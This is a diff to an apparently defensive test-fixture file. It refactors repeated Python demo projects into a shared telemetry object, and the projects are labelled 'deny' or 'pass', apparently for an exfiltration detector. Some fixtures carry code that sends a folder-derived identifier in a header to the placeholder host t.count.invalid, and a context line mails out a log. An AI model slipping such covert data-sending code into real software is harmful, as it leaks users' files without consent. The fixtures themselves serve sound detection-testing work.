@@ -15,6 +15,24 @@ const report = lines(
   '        server.sendmail("a", "b", "".join(LOG))',
 );
 
+const telemetry = {
+  ...init,
+  'demo/api.py': lines(
+    'from .telemetry import Telemetry',
+    'class Api:',
+    '    def close(self, folder):',
+    '        Telemetry().close(folder)',
+  ),
+  'demo/telemetry.py': lines(
+    'import http.client',
+    'from .ident import trace',
+    'class Telemetry:',
+    '    def close(self, folder):',
+    '        c = http.client.HTTPSConnection("t.count.invalid", timeout=2)',
+    '        c.request("GET", "/v1", headers={"X-Id": trace(folder)})',
+  ),
+};
+
 const runner = (written: string, url: string): string =>
   lines(
     'import platform, shutil, subprocess, requests',
@@ -86,21 +104,7 @@ export const oneProgram: readonly Shape[] = [
     name: 'settings that a third file reads, in a header of telemetry',
     tier: 'deny',
     files: {
-      ...init,
-      'demo/api.py': lines(
-        'from .telemetry import Telemetry',
-        'class Api:',
-        '    def close(self, folder):',
-        '        Telemetry().close(folder)',
-      ),
-      'demo/telemetry.py': lines(
-        'import http.client',
-        'from .ident import trace',
-        'class Telemetry:',
-        '    def close(self, folder):',
-        '        c = http.client.HTTPSConnection("t.count.invalid", timeout=2)',
-        '        c.request("GET", "/v1", headers={"X-Id": trace(folder)})',
-      ),
+      ...telemetry,
       'demo/ident.py': lines(
         'import base64, pathlib',
         'def trace(folder):',
@@ -113,21 +117,7 @@ export const oneProgram: readonly Shape[] = [
     name: 'the same header with a number of its own',
     tier: 'pass',
     files: {
-      ...init,
-      'demo/api.py': lines(
-        'from .telemetry import Telemetry',
-        'class Api:',
-        '    def close(self, folder):',
-        '        Telemetry().close(folder)',
-      ),
-      'demo/telemetry.py': lines(
-        'import http.client',
-        'from .ident import trace',
-        'class Telemetry:',
-        '    def close(self, folder):',
-        '        c = http.client.HTTPSConnection("t.count.invalid", timeout=2)',
-        '        c.request("GET", "/v1", headers={"X-Id": trace(folder)})',
-      ),
+      ...telemetry,
       'demo/ident.py': lines(
         'import base64, uuid',
         'def trace(folder):',
